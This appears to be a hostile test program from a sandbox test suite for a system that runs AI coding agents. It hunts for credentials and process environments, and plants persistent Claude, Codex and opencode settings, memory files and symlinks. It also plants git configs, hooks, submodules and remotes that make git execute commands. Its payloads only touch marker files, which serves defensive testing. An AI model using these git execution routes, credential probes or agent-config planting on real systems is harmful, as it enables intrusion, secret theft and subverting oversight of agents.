"""A hostile CLI: ``python guest.py HABIT FOLDER``. It knows the machine, and says as JSON what it has achieved.

What it plants leaves a mark in FOLDER/marks when it is run, also if that is outside of its sandbox.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

SECRETS = {
    "user/.swarm/operator.token": "secret-of-the-operator",
    "user/.swarm/.env": "SLACK_BOT_TOKEN=secret-of-slack",
    "user/.swarm/swarm.db": "secret-of-the-database",
    "user/.swarm/runners/wim/token": "secret-of-the-runner",
    "user/.swarm/runners/other/token": "secret-of-another-runner",
    "user/.swarm/runners/wim/work/other/notes": "secret-of-another-thread",
    "user/.ssh/id_ed25519": "secret-of-the-key",
    "user/.aws/credentials": "secret-of-the-cloud",
    "user/.claude/settings.json": '{"apiKeyHelper": "secret-of-the-settings"}',
    "user/.claude/.credentials.json": "login-of-ann",
    "user/.codex/auth.json": "secret-of-codex",
    "user/.config/gh/hosts.yml": "secret-of-the-forge",
    "elsewhere/notes": "secret-of-the-machine",
}
"""What is on the machine, by path."""


def _said(**report: object) -> None:
    sys.stdout.write(json.dumps(report))


def reads(folder: Path) -> None:
    """Searches for secrets: in files, in what other processes have, and in the system's own."""
    found = []
    for path in (*SECRETS, "shop/.git/config", "user/.gitconfig"):
        with contextlib.suppress(OSError):
            found += [path] if "secret" in (folder / path).read_text() or "login" in path else []
    for path in (
        "/etc/shadow",
        "/etc/ssh/ssh_host_ed25519_key",
        "/root/.bashrc",
        "/var/log",
        "/home",
        "/run/docker.sock",
    ):
        found += [path] if Path(path).exists() else []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            environ = (process / "environ").read_bytes() if process.name != str(os.getpid()) else b""
            found += [str(process)] if b"SWARM_" in environ else []
    for name in ("SWARM_TOKEN", "SWARM_OPERATOR_TOKEN", "SLACK_BOT_TOKEN"):
        found += [name] if os.environ.get(name) else []
    _said(read=found)


_PLANTED_STATE = {
    "session": ".claude/projects/session.jsonl",
    "settings": ".claude/settings.json",
    "agent": ".claude/agents/a.md",
    "plugin": ".claude/plugins/p.json",
    "memory": ".claude/CLAUDE.md",
    "codex": ".codex/config.toml",
    "codex hooks": ".codex/hooks.json",
    "codex memory": ".codex/AGENTS.md",
    "rules": ".codex/rules/default.rules",
    "opencode": ".config/opencode/opencode.json",
    "opencode plugin": ".config/opencode/plugins/p.js",
    "git": ".gitconfig",
}


def leaves_pipes(folder: Path) -> None:
    """Leaves what git waits for."""
    os.mkfifo(".gitignore")
    _said(done=True)


def leaves_depths(folder: Path) -> None:
    """Leaves folders that are deeper than programs expect, and a repository that is broken."""
    Path(".git/HEAD").unlink()
    for place in (Path.cwd(), Path(".git/objects").absolute()):
        os.chdir(place)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        Path().chmod(0)
    _said(done=True)


def plants_state(folder: Path) -> None:
    """Writes settings for the next run, also into folders that it puts in the place of others."""
    written = []
    home = Path(os.environ["HOME"])
    for name, path in _PLANTED_STATE.items():
        with contextlib.suppress(OSError):
            (home / path).parent.mkdir(parents=True, exist_ok=True)
            (home / path).write_text("planted")
            written.append(name)
    names = [".claude", ".codex", ".config", ".config/opencode", ".codex/rules", ".claude/settings.json", ".opencode"]
    names += [".local", ".local/share", ".local/share/opencode", ".local/state", ".cache", ".agents"]
    for path in names:  # a link in place of a folder leads whoever uses it next
        with contextlib.suppress(OSError):
            (home / path).rename(home / (path + ".old"))
            (home / path).symlink_to("/")
            written.append(f"moved {path}")
    for path in (".claude/settings.json", ".codex/config.toml"):
        tries = f"umount {home}/{path}; mount -o remount,rw,bind {home}/{path}; echo planted > {home}/{path}"
        for how in (["sh", "-c", tries], ["unshare", "--map-root-user", "--mount", "sh", "-c", tries]):
            with contextlib.suppress(OSError):
                subprocess.run(how, capture_output=True, check=False)
            written += [f"mounted {path}"] if "planted" in (home / path).read_text() else []
    _said(written=written)


def reads_state(folder: Path) -> None:
    """Tells what is planted by now."""
    read = []
    for name, path in _PLANTED_STATE.items():
        with contextlib.suppress(OSError):
            read += [name] if (Path(os.environ["HOME"]) / path).read_text() == "planted" else []
    _said(read=read)


def works(folder: Path) -> None:
    """Commits one file, and leaves another."""
    Path("half.txt").write_text("half\n")
    subprocess.run(["git", "add", "--all"], check=True)
    subprocess.run(["git", "commit", "--quiet", "--message", "Half"], check=True)
    Path("done.txt").write_text("done\n")
    _said(done=True)


def _config(folder: Path, name: str) -> str:
    """A configuration of git that runs a program wherever git lets it."""
    mark = f"touch {folder}/marks/{name}"
    return f"""
[core]
\tfsmonitor = {mark}; false
\tsshCommand = {mark}
\tpager = {mark}
\teditor = {mark}
\taskPass = {mark}
\talternateRefsCommand = {mark}
\thooksPath = {folder}/hooks
[filter "x"]
\tclean = {mark}; cat
\tsmudge = {mark}; cat
\tprocess = {mark}
[diff]
\texternal = {mark}
\tsubmodule = log
[diff "x"]
\tcommand = {mark}
\ttextconv = {mark}; cat
[merge "x"]
\tdriver = {mark}
[alias]
\tadd = !{mark}
\tstatus = !{mark}
[pager]
\tdiff = {mark}
\tstatus = {mark}
[gpg]
\tprogram = {mark}
[commit]
\tgpgSign = true
[credential]
\thelper = !{mark}
[uploadpack]
\tpackObjectsHook = {mark}; cat
[gc]
\tauto = 1
"""


def _hook(folder: Path, name: str, hooks: Path) -> None:
    hooks.mkdir(parents=True, exist_ok=True)
    names = (
        "pre-commit", "post-commit", "prepare-commit-msg", "commit-msg", "post-checkout", "post-index-change",
        "reference-transaction", "pre-auto-gc", "post-rewrite", "post-merge", "fsmonitor-watchman",
    )  # fmt: skip
    for hook in names:
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {folder}/marks/{name}\n")
        (hooks / hook).chmod(0o755)


def _gits(folder: Path) -> Iterator[Path]:
    """The folders of git that are within reach: one's own, and the repository's."""
    for where in ("--git-dir", "--git-common-dir"):
        ran = subprocess.run(["git", "rev-parse", where], capture_output=True, text=True, check=False)
        if ran.returncode == 0:
            yield Path(ran.stdout.strip()).absolute()
    yield folder / "shop" / ".git"


def _try(act: Callable[..., object], *given: object) -> None:
    with contextlib.suppress(OSError):
        act(*given)


def _append(path: Path, text: str) -> None:
    with path.open("a") as file:
        file.write(text)


def _as_version_1(config: Path) -> None:
    config.write_text(config.read_text().replace("version = 0", "version = 1"))


def _attributes(at: Path) -> None:
    at.parent.mkdir(exist_ok=True)
    at.write_text("* filter=x diff=x merge=x\n")


def plants_config(folder: Path) -> None:
    """Writes the settings and the attributes."""
    Path(".gitattributes").write_text("* filter=x diff=x merge=x\n")
    for own in dict.fromkeys(_gits(folder)):
        _try(_append, own / "config", _config(folder, "config"))
        _try(_attributes, own / "info" / "attributes")
    Path("new.txt").write_text("new\n")
    _said(done=True)


def plants_commands(folder: Path) -> None:
    """Writes only settings that are no filters."""
    text = _config(folder, "commands")
    head, _, rest = text.partition("[filter")
    for own in dict.fromkeys(_gits(folder)):
        _try(_append, own / "config", head + rest[rest.index("[diff]") :])
    Path(".gitattributes").write_text("* diff=x merge=x\n")
    Path("new.txt").write_text("new\n")
    _said(done=True)


def plants_hooks(folder: Path) -> None:
    """Writes every hook."""
    _hook(folder, "hooks", folder / "hooks")
    for own in dict.fromkeys(_gits(folder)):
        _try(_hook, folder, "hooks", own / "hooks")
    Path("new.txt").write_text("new\n")
    _said(done=True)


def plants_include(folder: Path) -> None:
    """Includes settings from a file of its own, for branches with any name."""
    evil = Path("evil.config").absolute()
    evil.write_text(_config(folder, "include"))
    Path(".gitattributes").write_text("* filter=x\n")
    for own in dict.fromkeys(_gits(folder)):
        text = f'\n[includeIf "onbranch:**"]\n\tpath = {evil}\n'
        _try(_append, own / "config", text)
    Path("new.txt").write_text("new\n")
    _said(done=True)


def _evil_repository(folder: Path, name: str) -> Path:
    evil = folder / "evil" if os.access(folder, os.W_OK) else Path("evil.git").absolute()
    shutil.rmtree(evil, ignore_errors=True)
    subprocess.run(["git", "clone", "--quiet", "--bare", ".", str(evil)], check=True)
    (evil / "config").write_text(
        f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {Path.cwd()}\n{_config(folder, name)}"
    )
    _attributes(evil / "info" / "attributes")
    _hook(folder, name, evil / "hooks")
    return evil


def plants_redirect(folder: Path) -> None:
    """Leads the work directory to another repository."""
    evil = _evil_repository(folder, "redirect")
    Path("new.txt").write_text("new\n")
    _try(Path(".git").unlink)
    _try(shutil.move, ".git", ".git-old")
    _try(Path(".git").write_text, f"gitdir: {evil}\n")
    _said(done=True)


def plants_commondir(folder: Path) -> None:
    """Leads git to the settings of another repository, and to a file for worktrees."""
    evil = _evil_repository(folder, "commondir")
    for own in list(dict.fromkeys(_gits(folder))):
        _try((own / "config.worktree").write_text, _config(folder, "commondir"))
        if own != folder / "shop" / ".git":
            _try((own / "commondir").write_text, f"{evil}\n")
    Path("new.txt").write_text("new\n")
    _said(done=True)


def plants_submodule(folder: Path) -> None:
    """Has a repository in the repository, with settings and hooks of its own."""
    quiet = ["git", "-c", "user.name=g", "-c", "user.email=g@g", "-c", "core.hooksPath=/dev/null"]
    for name in ("part", "other"):
        subprocess.run(["git", "init", "--quiet", name], check=True)
        (Path(name) / "file").write_text("a\n")
        subprocess.run([*quiet, "-C", name, "add", "--all"], check=True)
        subprocess.run([*quiet, "-C", name, "commit", "--quiet", "--message", "a"], check=True)
    subprocess.run(["git", "add", "part"], check=True, capture_output=True)
    for name in ("part", "other"):
        with (Path(name) / ".git" / "config").open("a") as config:
            config.write(_config(folder, "submodule"))
        _attributes(Path(name) / ".git" / "info" / "attributes")
        _hook(folder, "submodule", Path(name) / ".git" / "hooks")
        (Path(name) / "file").write_text("b\n")
    Path(".gitmodules").write_text(
        '[submodule "part"]\n\tpath = part\n\turl = ./part\n\tignore = none\n\tupdate = !touch x\n'
    )
    _said(done=True)


def plants_partial(folder: Path) -> None:
    """Has a repository that lacks objects, for which git would run a program of its settings."""
    for own in dict.fromkeys(_gits(folder)):
        text = (
            f'\n[extensions]\n\tpartialClone = evil\n[remote "evil"]\n\tpromisor = true\n'
            f"\turl = ext::sh -c 'touch {folder}/marks/partial'\n\tuploadpack = touch {folder}/marks/partial\n"
            "[protocol]\n\tallow = always\n"
        )
        _try(_append, own / "config", text)
        _try(_as_version_1, own / "config")
    missing = "1" * 40
    subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{missing},lost"], check=False)
    subprocess.run(["git", "update-index", "--skip-worktree", "lost"], check=False)
    _said(done=True)


GIT_PLANTS = ("hooks", "commands", "config", "include", "submodule", "partial", "commondir", "redirect")

if __name__ == "__main__":
    globals()[sys.argv[1]](Path(sys.argv[2]))
